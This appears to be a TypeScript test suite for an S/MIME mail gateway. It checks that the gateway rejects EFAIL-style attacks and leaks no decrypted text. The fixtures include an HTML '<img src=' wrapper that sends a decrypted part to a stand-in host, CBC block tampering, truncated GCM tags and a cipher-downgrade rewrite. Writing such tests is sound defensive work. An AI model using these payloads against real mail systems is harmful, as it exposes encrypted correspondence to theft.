/**
 * EFAIL (USENIX Security 2018) and what came after: encrypted parts beside plain ones, changed ciphertext,
 * shortened tags, the change from an authenticated cipher to one that is not.
 */
import t, { type Test } from 'tap'

import { ERRORS } from '../../src/errors.ts'
import { wholeBuffer } from '../../src/kit/bytes.ts'
import { children, parseDer, raw } from '../../src/pki/der.ts'
import { envelopeFor } from '../../src/seal/encrypt.ts'
import { keyUsage, NOW } from '../pki/authority.ts'
import {
  cms,
  identityFrom,
  mail,
  multipart,
  opaque,
  signedBy,
  stage,
  text,
  VICTIM,
} from '../support/hostile.ts'

const { ca, victim, attacker, judge } = stage()
const gateway = ca.issues('Passerelle', { extensions: [keyUsage(0x88)] })
const keys = [identityFrom(gateway)]
const SECRET = 'ESSAI-DURAND'
const letter = text(
  `Nom de naissance : ${SECRET}\r\n${'Contexte : rien à signaler.\r\n'.repeat(40)}`,
)
const outer = { From: VICTIM, To: 'demande@te.localhost' }

async function encrypt(content: Buffer, gcm: boolean): Promise<Buffer> {
  const envelope = await envelopeFor(content.length, {
    recipient: { certificate: gateway.certificate.der, capabilities: { gcm, oaep: false } },
    now: NOW,
  })
  if (!('encrypt' in envelope)) throw new Error(envelope.code)
  const pieces: Buffer[] = []
  const source = async function* () {
    yield content
  }
  for await (const piece of envelope.encrypt(source())) pieces.push(piece)
  return Buffer.concat(pieces)
}

const CBC = 'enveloped-data'
const GCM = 'authEnveloped-data'
const honest = signedBy(victim, letter)
const cbc = await encrypt(honest, false)
const gcm = await encrypt(honest, true)

/** Refused, and nothing of the clear text is handed on. */
async function refused(t: Test, name: string, raw: Buffer, ...codes: string[]) {
  const { verdict, entity, empreinte, original } = await judge(raw, { keys })
  t.equal(verdict.accepted, false, name)
  t.ok(codes.includes(verdict.refusal ?? ''), `${name}: ${verdict.refusal}`)
  t.notOk((await wholeBuffer(entity, 1e7)).includes(SECRET), `${name}: the clear text stays here`)
  t.strictSame([empreinte, original], [null, null], name)
}

t.test('opens the honest mail that the attacks start from', async (t) => {
  for (const [octets, type] of [
    [cbc, CBC],
    [gcm, GCM],
  ] as const) {
    const { verdict, entity } = await judge(mail(outer, opaque(octets, type)), { keys })
    t.equal(verdict.refusal, null, type)
    t.ok((await wholeBuffer(entity, 1e7)).includes(SECRET))
  }
})

/** The envelope says that it holds SignedData: the last octet of id-data becomes that of id-signedData. */
function asSigned(envelope: Buffer): Buffer {
  const data = Buffer.from('06092a864886f70d010701', 'hex')
  const told = Buffer.from(envelope)
  told[told.indexOf(data) + data.length - 1] = 2
  return told
}

t.test('opens SignedData that stands right in the envelope, without MIME between', async (t) => {
  const info = cms(letter, [victim], { inside: letter })
  const value = children(children(parseDer(info))[1] ?? parseDer(info))[0]
  for (const bare of [info, raw(value ?? parseDer(info))]) {
    for (const gcm of [false, true]) {
      const envelope = asSigned(await encrypt(bare, gcm))
      const { verdict, original, entity } = await judge(mail(outer, opaque(envelope)), { keys })
      t.match(verdict, { refusal: null, layers: [gcm ? 'authEnveloped' : 'enveloped', 'signed'] })
      t.ok((await wholeBuffer(entity, 1e7)).equals(letter))
      const body = original && (await wholeBuffer(original.body, 1e7))
      t.ok(Buffer.from(`${body}`, 'base64').includes(letter), 'the original stands alone')
    }
  }
})

t.test('SignedData in the envelope is held to the same rules', async (t) => {
  const strangers = asSigned(await encrypt(cms(letter, [attacker], { inside: letter }), true))
  const { verdict } = await judge(mail(outer, opaque(strangers, GCM)), { keys })
  t.match(verdict, { accepted: false, refusal: 'signer-mismatch' })
  const forged = cms(letter, [victim], { inside: letter, hashed: Buffer.from('autre') })
  for (const [name, inside, gcmCode] of [
    ['a signature that is none', forged, 'digest-mismatch'],
    ['no CMS at all', letter, 'malformed-cms'],
    ['a MIME entity', honest, 'malformed-cms'],
    ['nothing', Buffer.alloc(0), 'malformed-cms'],
  ] as const) {
    const cbc = mail(outer, opaque(asSigned(await encrypt(inside, false)), CBC))
    const gcm = mail(outer, opaque(asSigned(await encrypt(inside, true)), GCM))
    await refused(t, `${name}, CBC`, cbc, 'encrypted-not-authentic')
    await refused(t, `${name}, GCM`, gcm, gcmCode)
  }
  let tower = cms(letter, [victim], { inside: letter })
  for (let layer = 0; layer < 5; layer++) tower = asSigned(await encrypt(tower, true))
  await refused(
    t,
    'six layers',
    mail(outer, opaque(tower, GCM)),
    'malformed-cms',
    'too-many-layers',
  )
})

t.test(
  'six layers are told as such where nothing is hidden, else with all that CBC hides',
  async (t) => {
    for (const [authentic, type, code] of [
      [true, GCM, 'too-many-layers'],
      [false, CBC, 'encrypted-not-authentic'],
    ] as const) {
      let inside = honest
      for (let layer = 0; layer < 6; layer++)
        inside = opaque(await encrypt(inside, authentic), type)
      await refused(t, `six times ${type}`, mail(outer, inside), code)
      t.match(ERRORS[code].public, /plus de cinq .*une seule fois/, 'what it is, and what to do')
    }
  },
)

t.test('direct exfiltration: nothing is decrypted beside other parts', async (t) => {
  const before = text('<img src="http://ailleurs.test/', 'text/html')
  const after = text('">', 'text/html')
  for (const [octets, type] of [
    [cbc, CBC],
    [gcm, GCM],
  ] as const) {
    const part = opaque(octets, type)
    const untold = Buffer.from(
      part.toString('latin1').replace(` smime-type=${type};`, ''),
      'latin1',
    )
    for (const subtype of ['mixed', 'related', 'alternative', 'signed; protocol="x/y"'])
      for (const each of [part, untold])
        await refused(
          t,
          `${type} in ${subtype}`,
          mail(outer, multipart(subtype, before, each, after)),
          'not-signed',
          'partial-signature',
          'malformed-cms',
          'malformed-mail',
        )
  }
})

t.test('the encrypted part of a mail that the attacker signs stays closed', async (t) => {
  const part = opaque(cbc, CBC)
  const raw = mail(
    { From: 'eve@ailleurs.test' },
    signedBy(attacker, multipart('mixed', text('Bonjour'), part)),
  )
  const { entity, verdict } = await judge(raw, { keys })
  t.notOk((await wholeBuffer(entity, 1e7)).includes(SECRET))
  t.strictSame(verdict.layers, ['signed'])
})

t.test(
  'the envelope of the victim, alone in what the attacker signs, is not his to show',
  async (t) => {
    const raw = mail({ From: 'eve@ailleurs.test' }, signedBy(attacker, opaque(cbc, CBC)))
    await refused(t, 'encrypted inside', raw, 'signer-mismatch', 'encrypted-not-authentic')
    const unsigned = await encrypt(letter, false)
    const bare = mail({ From: 'eve@ailleurs.test' }, signedBy(attacker, opaque(unsigned, CBC)))
    await refused(t, 'clear text inside', bare, 'encrypted-not-authentic')
  },
)

t.test('gadgets: changed blocks of CBC end in the one code of all failures', async (t) => {
  const start = cbc.length - (Math.floor(honest.length / 16) + 1) * 16
  for (let block = 0; block < 60; block++) {
    const copy = Buffer.from(cbc)
    const at = start + ((block * 97) % (cbc.length - start))
    copy[at] = (copy[at] ?? 0) ^ 0x20
    const raw = mail(outer, opaque(copy, CBC))
    const opened = await judge(raw, { keys })
    // A block of what is encrypted but not signed (delimiters, the lines of the signature part) changes nothing.
    if (opened.verdict.accepted)
      t.ok((await wholeBuffer(opened.entity, 1e7)).equals(letter), `${at}`)
    else await refused(t, `block ${block}`, raw, 'encrypted-not-authentic')
  }
  const swapped = Buffer.from(cbc)
  cbc.copy(swapped, start, start + 32, start + 48)
  await refused(t, 'a block moved', mail(outer, opaque(swapped, CBC)), 'encrypted-not-authentic')
  const unsigned = await encrypt(letter, false)
  await refused(
    t,
    'no signature inside',
    mail(outer, opaque(unsigned, CBC)),
    'encrypted-not-authentic',
  )
  const foreign = await encrypt(signedBy(attacker, letter), false)
  const { verdict } = await judge(mail(outer, opaque(foreign, CBC)), { keys })
  t.equal(verdict.refusal, 'signer-mismatch', 'signed inside by another')
})

t.test('GCM: no octet changed, no tag shortened, no cipher lowered', async (t) => {
  for (let round = 0; round < 40; round++) {
    const copy = Buffer.from(gcm)
    const at = copy.length - 1 - ((round * 31) % (honest.length + 16))
    copy[at] = (copy[at] ?? 0) ^ 1
    await refused(
      t,
      `octet ${at}`,
      mail(outer, opaque(copy, GCM)),
      'encrypted-not-authentic',
      'malformed-cms',
    )
  }
  for (const size of [0, 1, 4, 8, 11, 12, 15]) {
    const cut = shortened(gcm, size)
    await refused(
      t,
      `tag of ${size} octets`,
      mail(outer, opaque(cut, GCM)),
      'malformed-cms',
      'encrypted-not-authentic',
    )
  }
  const unsigned = await encrypt(letter, true)
  const { verdict } = await judge(mail(outer, opaque(unsigned, GCM)), { keys })
  t.equal(verdict.refusal, 'not-signed', 'authentic, but by whom?')
  // The same octets under the object identifiers of EnvelopedData and AES-256-CBC.
  const lowered = Buffer.from(
    gcm
      .toString('latin1')
      .replace('\x60\x86\x48\x01\x65\x03\x04\x01\x2e', '\x60\x86\x48\x01\x65\x03\x04\x01\x2a'),
    'latin1',
  )
  await refused(t, 'CBC in AuthEnvelopedData', mail(outer, opaque(lowered, GCM)), 'malformed-cms')
})

/** The last OCTET STRING, the tag, made shorter; the lengths around it stay as they were or lie. */
function shortened(cms: Buffer, size: number): Buffer {
  const at = cms.length - 18
  return Buffer.concat([
    cms.subarray(0, at),
    Buffer.from([0x04, size]),
    cms.subarray(at + 2, at + 2 + size),
  ])
}
